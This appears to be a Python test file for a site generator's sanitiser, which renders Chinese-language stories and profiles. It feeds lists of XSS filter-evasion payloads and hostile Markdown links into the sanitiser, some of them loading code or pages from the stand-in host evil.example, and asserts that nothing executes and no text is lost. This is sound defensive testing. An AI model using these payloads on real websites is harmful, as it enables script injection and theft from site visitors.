"""Story text: nothing an editor wrote is dropped, nothing hostile runs, validate says where it differs."""

from __future__ import annotations

import json
import re
from html import unescape

import pytest

from generator.site.text import (
    ChangeKind,
    Sanitiser,
    changes,
    excerpt,
    plain_text,
    visible_text,
)
from generator.validate.run import validate_public
from tests.conftest import WORKER
from tests.site.conftest import build, read
from tests.site.harmless import dangers, shown_text

# Hostile HTML as an editor could paste it (OWASP's XSS filter evasion list, the probe of issue 18).
HTML_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script>alert(1)",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<img src=`javascript:alert(1)`>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=\"https://evil.example/\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"data:text/html,<script>alert(1)</script>\">",
    "<body onload=alert(1)>",
    "<div style=\"background:url(javascript:alert(1))\">文字</div>",
    "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">覆盖</p>",
    "<a href=\"javascript:alert(1)\">点我</a>",
    "<a href=\"  JaVaScRiPt:alert(1)\">点我</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">点我</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">点我</a>",
    "<b onclick=\"steal()\">加粗</b>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=\"javascript:alert(1)\"><button>提交</button></form>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<style>body{display:none}",
    "<xmp><script>alert(1)</script></xmp>",
    "<xmp>未闭合",
    "<!-- 注释 <script>alert(1)</script> -->",
    "<!-- 没有闭合的注释",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "\"><script>alert(1)</script>",
    "'';!--\"<XSS>=&{()}",
    "</script><script>alert(1)</script>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>滚动</marquee>",
    "<?xml version=\"1.0\"?><x/>",
    "<!DOCTYPE html><html>",
]

# Hostile Markdown: links and images whose target must not survive as a link; their text does.
MARKDOWN_PAYLOADS = [
    ("[链接](javascript:alert(3))", "链接"),
    ("[大写](JaVaScRiPt:alert(4))", "大写"),
    ("[数据](data:text/html,<script>alert(5)</script>)", "数据"),
    ("[空白]( javascript:alert(6))", "空白"),
    ("[vb](vbscript:msgbox(1))", "vb"),
    ("![图片说明](javascript:alert(7))", "图片说明"),
    ("![图片说明](https://evil.example/track.gif)", "图片说明"),
    ("[引用][1]\n\n[1]: javascript:alert(8)", "引用"),
    ("<javascript:alert(9)>", "javascript:alert(9)"),
]


def _letters(text: str) -> str:
    """The letters, digits and Chinese characters of `text`, in order: what must reach the reader."""
    return re.sub(r"[\W_]", "", text)


@pytest.mark.parametrize("payload", HTML_PAYLOADS)
def test_hostile_html_is_shown_as_text_and_nothing_runs(payload):
    source = f"开头的文字。{payload}结尾的文字。"
    html = Sanitiser().markdown(source)
    assert dangers(html) == [], html
    assert _letters(shown_text(html)) == _letters(unescape(source)), html  # every word survives, escaped
    assert "结尾的文字" in plain_text(source)


@pytest.mark.parametrize(("payload", "text"), MARKDOWN_PAYLOADS)
def test_hostile_markdown_keeps_its_text_without_the_link(payload, text):
    html = Sanitiser().markdown(f"前面，{payload}\n\n后面。")
    assert dangers(html) == [], html
    shown = shown_text(html)
    assert text in shown and "前面" in shown and "后面" in shown
    assert not re.search(r"<(?:a|img)\b[^>]*(?:href|src)=\"\s*(?:javascript|vbscript|data):", html, re.IGNORECASE)


@pytest.mark.parametrize("opener", ["<style>", "<xmp>", "<!--", "<script", "<script>", "<iframe>", "<textarea>"])
def test_an_unclosed_element_does_not_swallow_the_rest_of_the_story(opener):
    source = f"第一段。{opener}\n\n第二段还在。\n\n第三段也在。"
    html = Sanitiser().markdown(source)
    assert "第二段还在" in html and "第三段也在" in html
    assert opener in shown_text(html)
    assert dangers(html) == []


def test_text_that_looks_like_a_tag_is_kept():
    assert shown_text(Sanitiser().markdown("a<b且c>d")) == "a<b且c>d"
    assert shown_text(Sanitiser().markdown("产量<5%，合格率>99%")) == "产量<5%，合格率>99%"


def test_code_stays_code():
    html = Sanitiser().markdown("用 `<b>加粗</b>` 标记。\n\n    <div>缩进的代码</div>\n\n```\n<script>x</script>\n```\n")
    assert "<code>&lt;b&gt;加粗&lt;/b&gt;</code>" in html
    assert "<pre><code>&lt;div&gt;缩进的代码&lt;/div&gt;" in html
    assert "<code>&lt;script&gt;x&lt;/script&gt;</code>" in html  # fences are off: a code span
    assert dangers(html) == []


def test_autolinks_stay_links():
    html = Sanitiser().markdown("详见 <https://example.org/a?b=1> 或写信 <zhang@example.org>。")
    assert '<a href="https://example.org/a?b=1"' in html and "https://example.org/a?b=1</a>" in html
    assert "zhang@example.org" in shown_text(html)


def test_changes_are_found_where_they_are_and_not_in_code():
    source = "第一行。\n他说 <b>好</b>。`<i>代码</i>`\n\n    <div>代码</div>\n\n![照片](a.jpg) [点](javascript:x)\n"
    found = changes(source)
    assert [(c.line, c.column, c.kind) for c in found] == [
        (2, 4, ChangeKind.MARKUP), (6, 1, ChangeKind.IMAGE), (6, 18, ChangeKind.LINK)]
    assert found[0].also == ("</b>",)
    assert changes("纯文字，没有标记。a<b且c>d，<https://example.org/>") == []
    assert [(c.line, c.column, c.snippet) for c in changes("[引用][1]\n\n[1]: javascript:alert(8)\n")] == [
        (3, 6, "javascript:")]
    # a lone backtick does not hide the markup of the next paragraph
    assert [c.line for c in changes("一个 ` 反引号。\n\n<b>粗</b> 和 ` 另一个。")] == [3]


def test_validate_warns_at_the_line_in_a_record_and_in_a_story(tree):
    tree.worker(text=WORKER.format(id="zhang-jianguo") + "story: |\n  第一段。\n\n  粘贴的 <style>p{}</style> 样式。\n")
    tree.write("stories/a-story.md", "---\ntitle: 故事\ndate: 2021-04-28\nabout:\n  - zhang-jianguo\n---\n\n"
                                     "正文。\n\n<!-- 没写完\n")
    warnings = sorted(d for d in validate_public(tree.records).diagnostics if d.severity == "warning")
    assert [(d.path.split("/")[-1], d.line, d.column) for d in warnings] == [
        ("a-story.md", 10, 1), ("zhang-jianguo.yml", 15, 7)]
    assert all("原样显示" in d.message for d in warnings)
    assert "“<style>”、“</style>”" in warnings[1].message


def test_excerpt_ends_at_a_chinese_sentence_with_brackets_closed():
    text = "张建国（1964年生）是焊工。他说：“焊缝就是良心，每一道都要对得起用户。”此后三十年，他带出徒弟一百多人（其中高级技师二十人"
    assert excerpt(text, 60) == "张建国（1964年生）是焊工。他说：“焊缝就是良心，每一道都要对得起用户。”"
    assert excerpt(text, 30) == "张建国（1964年生）是焊工。"
    cut = excerpt("没有句号的一句很长的话，" * 20, 40)
    assert cut.endswith("…") and len(cut) <= 40 and "，…" not in cut
    assert excerpt("（括号一直没有闭合，里面很长很长很长很长很长很长很长很长很长很长", 20).endswith("…")
    assert "（" not in excerpt("前面的文字很长很长很长很长很长（括号里面很长很长很长很长很长很长很长", 20)


def test_visible_text_joins_blocks_without_stray_markup():
    source = "# 标题\n\n第一段，**加粗**。\n\n- 一项\n- 两项\n\n> 引用的话。\n\n[链接文字](https://example.org/)。"
    assert visible_text(source) == "标题第一段，加粗。一项两项引用的话。链接文字。"


def test_hostile_summary_is_refused_at_its_line(tree):
    tree.worker(text=WORKER.format(id="zhang-jianguo") + 'summary: 胡同保洁能手"><script>alert(1)</script>\n')
    errors = [d for d in validate_public(tree.records).diagnostics if d.severity == "error"]
    assert len(errors) == 1 and errors[0].line == 12 and "HTML 标记“<script>”" in errors[0].message


def test_hostile_story_page_is_harmless_and_keeps_its_words(mini, tmp_path):
    mini.worker("zhang-jianguo", "张建国", story="""\
        他长期从事焊接技术攻关。<img src=x onerror=alert(1)>

        </script><script>alert(1)</script><!-- 后面的话仍在。
        """, extra='summary: 胡同保洁能手">，一个&lt;b&gt;字也不少。\n')
    mini.worker("li-ming", "李明", story="他长期从事焊接技术攻关。")
    mini.story("hostile", ["zhang-jianguo"], "</script><script>alert(2)</script>故事正文。<style>x{}")
    out = tmp_path / "site"
    build(mini.root, out)
    for url in ("workers/zhang-jianguo/", "stories/hostile/"):
        page = read(out, url)
        article = re.search(r'<article class="laomo-.*?</article>', page, re.DOTALL).group(0)
        assert dangers(article) == []
        for blob in re.findall(r'<script type="application/ld\+json">(.*?)</script>', page, re.DOTALL):
            json.loads(blob)
        # no script but the theme's own (those of a profile without any markup)
        assert len(re.findall(r"<script\b", page)) == len(re.findall(r"<script\b", read(out, "workers/li-ming/")))
    profile = read(out, "workers/zhang-jianguo/")
    assert "后面的话仍在" in profile and "&lt;img src=x onerror=alert(1)&gt;" in profile
    # the summary is plain text, on the page and in the description, exactly as written
    assert '<p class="laomo-summary">胡同保洁能手"&gt;，一个&amp;lt;b&amp;gt;字也不少。</p>' in profile
    assert '<meta name="description" content="胡同保洁能手&#34;&gt;，一个&amp;lt;b&amp;gt;字也不少。">' in profile \
        or '<meta name="description" content="胡同保洁能手&quot;&gt;，一个&amp;lt;b&amp;gt;字也不少。">' in profile
    story = read(out, "stories/hostile/")
    assert "故事正文" in story


def test_no_word_is_ever_lost_property():
    hypothesis = pytest.importorskip("hypothesis")
    from hypothesis import strategies as st

    # everything Markdown and HTML act on but links (whose address is not text) and entities
    alphabet = st.sampled_from(list("张建国焊接，。ab1 \n\t<>/!-=\"'`*_#>~|:;?") + ["<script>", "</style>", "<!--",
                                                                              "-->", "<xmp>", "    ", "```"])

    @hypothesis.settings(max_examples=3000, deadline=None)
    @hypothesis.given(st.lists(alphabet, max_size=40).map("".join))
    def check(source):
        html = Sanitiser().markdown(source)
        assert dangers(html) == []
        assert _letters(shown_text(html)) == _letters(source)

    check()
